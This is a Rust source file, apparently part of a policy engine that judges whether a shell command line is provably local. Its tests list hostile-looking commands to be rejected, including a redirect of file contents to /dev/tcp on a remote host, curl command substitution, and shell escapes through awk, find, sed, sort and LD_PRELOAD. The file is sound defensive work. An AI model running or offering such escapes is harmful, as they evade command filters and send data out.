//! What cannot reach the network, whatever comes in: the "provably local" of seed 001, for a cascade that has to know
//! whether tainted data may go further without a second look.

use crate::action::script::{Script, Unsure};
use crate::policy::fuel::Fuel;
use crate::policy::scene::Scene;
use crate::policy::{Policy, Situation, Verdict};

impl Policy {
    /// True if nothing on the line can reach the network, start what is not judged, or write a file: every run is let
    /// through by a rule that is marked `local`, and no finding asks. False where that is not certain.
    ///
    /// A program's name alone proves nothing: `awk` with `system()`, `find -exec`, `sort --compress-program`,
    /// `LD_PRELOAD=…` and a redirection to `/dev/tcp` are no rule's, and so they are not local.
    #[must_use]
    pub fn provably_local(&self, script: &Result<Script, Unsure>, situation: &Situation) -> bool {
        self.judge_script(script, situation).iter().all(|finding| finding.verdict <= Verdict::Allow)
            && self.every_run_is_local(script, situation)
    }

    /// The same where no finding asks for more, as the caller knows.
    pub(super) fn every_run_is_local(&self, script: &Result<Script, Unsure>, situation: &Situation) -> bool {
        let Ok(script) = script else { return false };
        let fuel = Fuel::for_line(script.source().len());
        let scene = Scene::new(script, situation, &fuel);
        script.runs().iter().enumerate().all(|(index, run)| {
            run.words.is_empty()
                || matches!(self.judge_closed(&scene, index, run), Ok(Some(finding))
                    if finding.rule == "function"
                        || self.rule(&finding.rule).is_some_and(|rule| rule.text.local == Some(true)))
        })
    }
}

#[cfg(test)]
mod tests {
    use crate::action::script::Dialect;
    use crate::policy::{Policy, Profile, corpus};

    #[test]
    fn only_what_is_certain_is_local() {
        let policy = Policy::builtin(Profile::Desktop).unwrap();
        let local = |line: &str| {
            let script = crate::action::shell::read(line, Dialect::Bash);
            policy.provably_local(&script, &corpus::situation(&script))
        };
        for line in [
            "cat notes | sort | uniq -c",
            "find . -name '*.rs' | xargs wc -l",
            "awk '{print $1}' notes",
            "sed -n 1,5p notes",
            "LC_ALL=C strings a.out",
            "grep -rn todo src && git log --oneline",
            "f() { ls; }; f",
        ] {
            assert!(local(line), "{line}");
        }
        for line in [
            "awk 'BEGIN{system(\"id\")}'",
            "find . -exec sh {} \\;",
            "find . | xargs curl",
            "sed '1e id' notes",
            "sort --compress-program=sh notes",
            "LD_PRELOAD=./x.so ls",
            "cat notes > /dev/tcp/example.com/80",
            "ls; dig example.com",
            "cat $(curl https://example.com)",
            "gh pr list",
            "frobctl list",
            "ls 'open",
        ] {
            assert!(!local(line), "{line}");
        }
    }
}
